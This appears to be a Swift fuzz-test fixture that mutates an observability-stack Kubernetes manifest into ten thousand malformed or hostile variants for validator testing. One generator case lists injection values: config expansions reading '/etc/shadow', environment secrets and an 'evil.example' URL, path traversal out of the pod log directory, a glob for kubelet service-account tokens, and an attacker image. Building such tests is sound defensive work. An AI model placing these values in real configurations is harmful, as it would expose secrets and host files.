import KubeModel
import Render

/// Ten thousand malformed or hostile stacks, made by mutating a complete one with a fixed
/// seed: wrong types, huge strings, deep nesting, invalid CIDRs, impossible durations and
/// numbers, names at the 253-character limit, `$` expansions and paths out of the pod log
/// directory. Shared by the fuzz test of the validator and the agreement test of
/// `vigil check` with the reconciler's gate.
public enum HostileStacks {
    /// The operator lets these stacks tolerate taint key `k` (the base stack's toleration).
    public static let policy = OperatorPolicy(allowedTolerationKeys: ["k"])

    public static let baseYAML = """
        apiVersion: observability.vigil.dev/v1alpha1
        kind: ObservabilityStack
        metadata: {name: fuzz, namespace: team}
        spec:
          environment: production
          collector:
            image: otel/opentelemetry-collector-contrib:0.120.1
            gateway: {replicas: 2}
            memoryLimiter: {limitMiB: 2048, spikeLimitMiB: 400}
            hostMetrics: {enabled: true, collectionInterval: 30s}
            fileLogs: {enabled: true, include: [/var/log/pods/team_*/*/*.log, /var/log/pods/apps_*/*/*.log]}
            resources: {limits: {cpu: "1"}, requests: {memory: 1Gi}}
            tolerations: [{key: k, operator: Equal, value: v, effect: NoSchedule}]
            nodeSelector: {kubernetes.io/os: linux}
          ingest:
            tls: {mode: SelfSigned, clientAuth: Optional, duration: 90d, renewBefore: 30d, keyAlgorithm: ECDSA, dnsNames: [otel.example.com], ipAddresses: [10.0.0.1]}
            basicAuth:
              clients: [{name: api, namespace: apps}, {name: worker, namespace: jobs}]
              rotation: {interval: 30d, overlap: 24h}
              bcryptCost: 10
          sampling: {percentage: 10, errors: true, latencyThresholdMs: 2000}
          exporters:
            loki: {endpoint: "https://loki.example.com/otlp", credentialsSecret: {name: loki-credentials}, caSecret: {name: loki-ca, key: ca.crt}}
            tempo: {endpoint: "tempo.example.com:4317", bearerTokenSecret: {name: tempo-token, key: token}}
            remoteWrite: {url: "https://mimir.example.com/api/v1/push", credentialsSecret: {name: rw}}
          networkPolicy:
            enabled: true
            ingestFrom: [{namespaceSelector: {matchLabels: {team: apps}}}, {ipBlock: {cidr: 10.0.0.0/8, except: [10.1.0.0/16]}}]
            metricsFrom: [{podSelector: {matchLabels: {app: prometheus}}}]
            egressTo: [10.20.0.0/16]
            nodeCIDRs: [10.0.0.0/8]
        """

    /// Every path to a value in a JSON document.
    public static func paths(_ v: JSONValue, _ prefix: [String] = []) -> [[String]] {
        var out = [prefix]
        switch v {
        case .object(let o): for (k, x) in o { out += paths(x, prefix + [k]) }
        case .array(let a): for (i, x) in a.enumerated() { out += paths(x, prefix + [String(i)]) }
        default: break
        }
        return out
    }

    public static func set(_ v: inout JSONValue, _ path: ArraySlice<String>, _ new: JSONValue) {
        guard let head = path.first else {
            v = new
            return
        }
        switch v {
        case .object(var o):
            var child = o[head] ?? .null
            set(&child, path.dropFirst(), new)
            o[head] = child
            v = .object(o)
        case .array(var a):
            guard let i = Int(head), a.indices.contains(i) else { return }
            set(&a[i], path.dropFirst(), new)
            v = .array(a)
        default:
            v = new
        }
    }

    public static func hostile(_ rng: inout Seeded) -> JSONValue {
        func nested(_ depth: Int) -> JSONValue {
            var v: JSONValue = "leaf"
            for i in 0..<depth { v = i % 2 == 0 ? .array([v]) : .object(["k": v]) }
            return v
        }
        switch Int.random(in: 0..<17, using: &rng) {
        case 0: return .int(Int.random(in: Int.min...Int.max, using: &rng))
        case 1: return .double([1e308, -1e308, 0.000001, -0.0, 1e-300].randomElement(using: &rng)!)
        case 2: return .bool(Bool.random(using: &rng))
        case 3: return .null
        case 4: return .string(String(repeating: "x", count: Int.random(in: 10_000...200_000, using: &rng)))
        case 5: return nested(Int.random(in: 50...400, using: &rng))
        case 6: return .string(["10.0.0.0/33", "300.1.1.1/8", "10.0.0.0", "::/129", "abc", "10.0.0.0/-1", "", "1.2.3.4/08"].randomElement(using: &rng)!)
        case 7: return .string(["-1h", "0s", "1x", "", "99999999999999999999999999d", "1e9d", ".", "1.5.5h", "24h-1s", "9223372036854775807s"].randomElement(using: &rng)!)
        case 8: return .string(String(repeating: "a", count: 253))
        case 9: return .string(String(repeating: "a", count: 254))
        case 10: return .array([])
        case 11: return .object([:])
        case 12: return .string("\u{0}\u{FEFF}\u{202E}🙂\n--- !!python/object")
        case 13: return .int([0, -1, 1, 65536, Int(Int32.max) + 1, -2048].randomElement(using: &rng)!)
        case 14: return .string(["https://", "http://[::1", "ftp://x", "tempo:99999", "host:0", "${env:SECRET}"].randomElement(using: &rng)!)
        // Expansions for the collector and Grafana, and paths out of the pod log directory.
        case 15:
            return .string(
                [
                    "${env:SECRET}", "${file:/etc/shadow}", "${https://evil.example/x}", "$HOME", "a$b", "$$", "$${env:X}", "https://x/${env:GF_SECURITY_ADMIN_PASSWORD}",
                    "/var/log/pods/../../etc/*", "/hostfs/var/lib/kubelet/pods/*/volumes/*/*/token", "/var/log/pods/*/*/*.log", "/var/log/pods/prod_*/*/*.log",
                    "/var/log/pods/team_*/../../../etc/*", "/var/log/pods/team_${env:X}/*.log", "attacker/collector:latest", "Exists",
                ].randomElement(using: &rng)!)
        default: return .array([.string("x"), .int(1), .null])
        }
    }


    /// The seed of the ten thousand.
    public static let seed: UInt64 = 20_261_125

    /// `count` mutated documents, in order, each with 1 to 3 hostile values.
    public static func documents(count: Int = 10_000, seed: UInt64 = seed) throws -> [JSONValue] {
        let base = try StackFile.parse(baseYAML)
        let baseJSON = try JSONCoding.decode(JSONValue.self, from: JSONCoding.encode(base[0]))
        let paths = Self.paths(baseJSON).filter { !$0.isEmpty }
        var rng = Seeded(state: seed)
        var out: [JSONValue] = []
        out.reserveCapacity(count)
        for _ in 0..<count {
            var doc = baseJSON
            for _ in 0..<Int.random(in: 1...3, using: &rng) {
                Self.set(&doc, paths.randomElement(using: &rng)![...], Self.hostile(&rng))
            }
            out.append(doc)
        }
        return out
    }
}
